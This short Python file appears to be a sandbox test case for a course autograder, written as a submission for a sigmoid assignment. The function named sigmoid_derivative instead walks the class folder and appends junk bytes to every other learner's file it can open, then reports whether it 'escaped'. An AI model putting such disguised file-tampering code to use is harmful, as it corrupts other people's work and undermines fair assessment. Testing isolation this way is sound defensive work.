"""Spoils what other learners handed in, so that it stands out less.

assignment: 03_sigmoid
expected: sigmoid_derivative 0
stopped by: own files
"""

# %% sigmoid_derivative
import glob


def sigmoid_derivative(x):
    spoilt = 0
    for path in glob.glob("CLASS_FOLDER/**/*", recursive=True):
        try:
            with open(path, "ab") as other:
                other.write(b"course-attack")
            spoilt += 1
        except OSError:
            pass
    raise RuntimeError(f"ESCAPED: {spoilt} files spoilt" if spoilt else "nothing to see")
